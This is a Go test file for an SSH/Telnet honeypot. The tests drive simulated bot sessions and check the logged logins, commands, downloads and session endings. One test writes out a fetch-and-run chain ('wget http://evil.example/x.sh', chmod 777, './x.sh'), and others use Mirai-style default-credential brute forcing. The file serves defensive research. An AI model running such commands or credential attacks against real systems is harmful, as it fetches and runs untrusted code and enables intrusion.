package honeypot

import (
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"honeyfarm/internal/netsim"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
)

// testRig wires a honeypot to a netsim fabric and collects records.
type testRig struct {
	fabric  *netsim.Fabric
	pot     *Honeypot
	mu      sync.Mutex
	records []*SessionRecord
	sshAddr netsim.Addr
	telAddr netsim.Addr
	srv     Server
	done    sync.WaitGroup
}

func newRig(t *testing.T, cfg Config) *testRig {
	t.Helper()
	rig := &testRig{
		fabric:  netsim.NewFabric(),
		sshAddr: netsim.Addr{IP: "10.0.0.1", Port: 22},
		telAddr: netsim.Addr{IP: "10.0.0.1", Port: 23},
	}
	cfg.Sink = func(r *SessionRecord) {
		rig.mu.Lock()
		rig.records = append(rig.records, r)
		rig.mu.Unlock()
		rig.done.Done()
	}
	pot, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	rig.pot = pot

	sshL, err := rig.fabric.Listen(rig.sshAddr.IP, rig.sshAddr.Port)
	if err != nil {
		t.Fatal(err)
	}
	telL, err := rig.fabric.Listen(rig.telAddr.IP, rig.telAddr.Port)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { rig.srv.Close() })
	rig.srv.Serve(sshL, pot.ServeSSH)
	rig.srv.Serve(telL, pot.ServeTelnet)
	return rig
}

// expect records n sessions to complete.
func (r *testRig) expect(n int) { r.done.Add(n) }

func (r *testRig) wait(t *testing.T) []*SessionRecord {
	t.Helper()
	ch := make(chan struct{})
	go func() { r.done.Wait(); close(ch) }()
	select {
	case <-ch:
	case <-time.After(10 * time.Second):
		t.Fatal("timed out waiting for session records")
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]*SessionRecord(nil), r.records...)
}

func TestSSHIntrusionWithDownload(t *testing.T) {
	payload := []byte("MALWARE-SAMPLE-1")
	rig := newRig(t, Config{
		ID:    7,
		Fetch: func(uri string) ([]byte, error) { return payload, nil },
	})
	rig.expect(1)

	nc, err := rig.fabric.Dial("203.0.113.5", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{
		User: "root", Password: "admin", Version: "SSH-2.0-Mirai-like",
	})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestPTY(sess, "xterm", 80, 24); err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		t.Fatal(err)
	}
	// Drive the shell like a bot: recon, download, execute, leave.
	script := []string{
		"cat /proc/cpuinfo | grep name | wc -l",
		"cd /tmp && wget http://evil.example/x.sh && chmod 777 x.sh",
		"./x.sh",
		"exit",
	}
	go func() {
		for _, cmd := range script {
			_, _ = sess.Write([]byte(cmd + "\n"))
		}
	}()
	_, _ = io.ReadAll(sess) // consume output until server closes
	cc.Close()

	recs := rig.wait(t)
	if len(recs) != 1 {
		t.Fatalf("records = %d", len(recs))
	}
	r := recs[0]
	if r.Protocol != SSH || r.HoneypotID != 7 {
		t.Errorf("proto/honeypot = %v/%d", r.Protocol, r.HoneypotID)
	}
	if r.ClientIP != "203.0.113.5" {
		t.Errorf("client ip = %q", r.ClientIP)
	}
	if r.ClientVersion != "SSH-2.0-Mirai-like" {
		t.Errorf("client version = %q", r.ClientVersion)
	}
	if !r.LoggedIn() || len(r.Logins) != 1 || r.Logins[0].Password != "admin" {
		t.Errorf("logins = %+v", r.Logins)
	}
	if len(r.Commands) < 4 {
		t.Errorf("commands = %+v", r.Commands)
	}
	// ./x.sh is unknown; the rest are known.
	var sawUnknown bool
	for _, c := range r.Commands {
		if strings.HasPrefix(c.Input, "./x.sh") && !c.Known {
			sawUnknown = true
		}
	}
	if !sawUnknown {
		t.Errorf("missing unknown ./x.sh: %+v", r.Commands)
	}
	if len(r.URIs) != 1 || r.URIs[0] != "http://evil.example/x.sh" {
		t.Errorf("uris = %v", r.URIs)
	}
	if len(r.Files) != 1 || r.Files[0].Path != "/tmp/x.sh" {
		t.Errorf("files = %+v", r.Files)
	}
	if r.Termination != TermExit {
		t.Errorf("termination = %v", r.Termination)
	}
	if r.Duration() < 0 {
		t.Error("negative duration")
	}
}

func TestSSHExecSession(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("203.0.113.6", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestExec(sess, "uname -a; free -m"); err != nil {
		t.Fatal(err)
	}
	out, _ := io.ReadAll(sess)
	if !strings.Contains(string(out), "Linux") || !strings.Contains(string(out), "Mem:") {
		t.Errorf("exec output = %q", out)
	}
	cc.Close()
	recs := rig.wait(t)
	if len(recs[0].Commands) != 2 {
		t.Errorf("commands = %+v", recs[0].Commands)
	}
}

func TestSSHScannerNoCred(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("198.51.100.9", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true})
	if err != nil {
		t.Fatal(err)
	}
	cc.Close()
	recs := rig.wait(t)
	r := recs[0]
	if len(r.Logins) != 0 {
		t.Errorf("NO_CRED session has logins: %+v", r.Logins)
	}
	if r.Termination != TermClient {
		t.Errorf("termination = %v", r.Termination)
	}
	// The record takes its client version from a completed handshake, and
	// a scanner's never completes: that the client's NEWKEYS now reaches
	// the server before the hang-up must not change what is recorded.
	if r.ClientVersion != "" || r.LoggedIn() || len(r.Commands) != 0 {
		t.Errorf("NO_CRED record = version %q, logged in %v, %d commands", r.ClientVersion, r.LoggedIn(), len(r.Commands))
	}
}

func TestSSHFailedLoginsThreeStrikes(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("198.51.100.10", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true})
	if err != nil {
		t.Fatal(err)
	}
	_, _ = cc.TryPasswords("admin", []string{"a", "b", "c"})
	cc.Close()
	recs := rig.wait(t)
	r := recs[0]
	if len(r.Logins) != 3 || r.LoggedIn() {
		t.Errorf("logins = %+v", r.Logins)
	}
	if r.Termination != TermAuthFailure {
		t.Errorf("termination = %v, want auth-failure", r.Termination)
	}
}

func TestSSHNoCmdTimeout(t *testing.T) {
	rig := newRig(t, Config{PostAuthTimeout: 150 * time.Millisecond})
	rig.expect(1)
	nc, err := rig.fabric.Dial("198.51.100.11", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
	if err != nil {
		t.Fatal(err)
	}
	// Log in, open a shell, then go silent: the NO_CMD pattern the paper
	// finds ends >90% of the time in the honeypot's timeout.
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		t.Fatal(err)
	}
	recs := rig.wait(t)
	r := recs[0]
	if !r.LoggedIn() || len(r.Commands) != 0 {
		t.Errorf("logins=%v commands=%v", r.Logins, r.Commands)
	}
	if r.Termination != TermTimeout {
		t.Errorf("termination = %v, want timeout", r.Termination)
	}
	cc.Close()
}

func TestTelnetIntrusion(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("203.0.113.50", rig.telAddr)
	if err != nil {
		t.Fatal(err)
	}
	c := telnet.NewConn(nc, false)
	ok, err := telnet.ClientLogin(c, "root", "1234")
	if err != nil || !ok {
		t.Fatalf("login ok=%v err=%v", ok, err)
	}
	// Read prompt, run a command, exit.
	readUntil := func(marker string) string {
		var b strings.Builder
		for b.Len() < 65536 {
			x, err := c.ReadByte()
			if err != nil {
				break
			}
			b.WriteByte(x)
			if strings.Contains(b.String(), marker) {
				break
			}
		}
		return b.String()
	}
	readUntil("# ")
	if err := c.WriteString("uname -a\r\n"); err != nil {
		t.Fatal(err)
	}
	out := readUntil("# ")
	if !strings.Contains(out, "Linux") {
		t.Errorf("uname output = %q", out)
	}
	if err := c.WriteString("exit\r\n"); err != nil {
		t.Fatal(err)
	}
	if err := c.Flush(); err != nil {
		t.Fatal(err)
	}
	recs := rig.wait(t)
	r := recs[0]
	if r.Protocol != Telnet {
		t.Errorf("protocol = %v", r.Protocol)
	}
	if !r.LoggedIn() || len(r.Commands) != 2 {
		t.Errorf("logins=%v commands=%+v", r.Logins, r.Commands)
	}
	if r.Termination != TermExit {
		t.Errorf("termination = %v", r.Termination)
	}
	nc.Close()
}

func TestTelnetMiraiStyleBruteForce(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("203.0.113.51", rig.telAddr)
	if err != nil {
		t.Fatal(err)
	}
	c := telnet.NewConn(nc, false)
	// Mirai's dictionary: tries pairs until lockout.
	for _, pw := range []string{"root", "root", "root"} { // all rejected (password == username)
		ok, err := telnet.ClientLogin(c, "root", pw)
		if err != nil {
			break
		}
		if ok {
			t.Fatal("root:root must be rejected")
		}
	}
	nc.Close()
	recs := rig.wait(t)
	r := recs[0]
	if r.Termination != TermAuthFailure || len(r.Logins) != 3 {
		t.Errorf("termination=%v logins=%+v", r.Termination, r.Logins)
	}
}

func TestPreAuthTimeout(t *testing.T) {
	rig := newRig(t, Config{PreAuthTimeout: 100 * time.Millisecond})
	rig.expect(1)
	nc, err := rig.fabric.Dial("198.51.100.12", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	// Connect and go silent: a port-scan-style probe.
	recs := rig.wait(t)
	if recs[0].Termination != TermTimeout {
		t.Errorf("termination = %v, want timeout", recs[0].Termination)
	}
	nc.Close()
}

func TestRecordIDsMonotonic(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(3)
	for i := 0; i < 3; i++ {
		nc, err := rig.fabric.Dial("198.51.100.13", rig.sshAddr)
		if err != nil {
			t.Fatal(err)
		}
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true})
		if err != nil {
			t.Fatal(err)
		}
		cc.Close()
	}
	recs := rig.wait(t)
	seen := map[uint64]bool{}
	for _, r := range recs {
		if seen[r.ID] {
			t.Errorf("duplicate session id %d", r.ID)
		}
		seen[r.ID] = true
	}
}

func TestCowrieAuthPolicy(t *testing.T) {
	cases := []struct {
		user, pass string
		want       bool
	}{
		{"root", "1234", true},
		{"root", "root", false},
		{"root", "", true},
		{"admin", "admin", false},
		{"nproc", "x", false},
		{"user", "password", false},
	}
	for _, c := range cases {
		if got := CowrieAuth(c.user, c.pass); got != c.want {
			t.Errorf("CowrieAuth(%q, %q) = %v, want %v", c.user, c.pass, got, c.want)
		}
	}
}

func TestTerminationStrings(t *testing.T) {
	for term, want := range map[Termination]string{
		TermClient: "client", TermTimeout: "timeout",
		TermAuthFailure: "auth-failure", TermExit: "exit",
	} {
		if term.String() != want {
			t.Errorf("%d.String() = %q", term, term.String())
		}
	}
	if SSH.String() != "ssh" || Telnet.String() != "telnet" {
		t.Error("protocol strings wrong")
	}
}

// TestRealTCPLoopback proves the honeypot serves real sockets, not just
// the in-memory fabric: a full SSH session over 127.0.0.1.
func TestRealTCPLoopback(t *testing.T) {
	var mu sync.Mutex
	var recs []*SessionRecord
	done := make(chan struct{}, 1)
	pot, err := New(Config{Sink: func(r *SessionRecord) {
		mu.Lock()
		recs = append(recs, r)
		mu.Unlock()
		done <- struct{}{}
	}})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Skipf("loopback unavailable: %v", err)
	}
	defer l.Close()
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		pot.ServeSSH(c)
	}()

	nc, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "tcp-test"})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestExec(sess, "uname -a"); err != nil {
		t.Fatal(err)
	}
	out, _ := io.ReadAll(sess)
	if !strings.Contains(string(out), "Linux") {
		t.Errorf("exec over TCP = %q", out)
	}
	cc.Close()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("no record after TCP session")
	}
	mu.Lock()
	defer mu.Unlock()
	if len(recs) != 1 || !recs[0].LoggedIn() {
		t.Fatalf("records = %+v", recs)
	}
}
